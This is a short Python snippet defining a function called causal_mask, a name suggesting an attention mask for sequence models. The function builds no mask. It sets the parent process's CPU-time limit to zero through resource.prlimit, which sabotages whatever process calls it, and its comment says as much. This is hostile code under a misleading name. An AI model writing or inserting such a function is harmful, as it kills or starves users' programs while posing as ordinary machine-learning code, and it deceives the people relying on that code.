# causal_mask: takes the processor time of the process above away
import os, resource
def causal_mask(seq_len):
    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (0, 0))
